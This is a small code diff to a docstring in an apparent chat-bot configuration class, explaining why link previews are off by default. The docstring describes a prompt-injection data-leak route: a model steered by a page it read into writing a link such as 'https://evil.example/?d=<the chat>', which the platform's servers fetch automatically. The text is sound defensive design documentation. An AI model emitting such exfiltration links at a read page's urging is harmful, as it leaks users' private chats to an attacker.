@@ -27,8 +27,8 @@ class ChannelSection(Section):
     ``streaming = false`` turns streamed previews off for that platform: its chats get
     the final answer only, as one message (or several past the length limit).
 
-    ``link_previews = true`` lets the platform preview (Telegram), embed (Discord) or
-    unfurl (Slack) the links in the bot's messages. Off by default: the platform's
+    ``link_previews = true`` lets the platform preview, embed or unfurl the links in the
+    bot's messages (each adapter says how). Off by default: the platform's
     servers fetch such a link as soon as it is posted, with no one clicking, so a model
     steered by a page it read into writing ``https://evil.example/?d=<the chat>`` would
     leak the chat on its own.
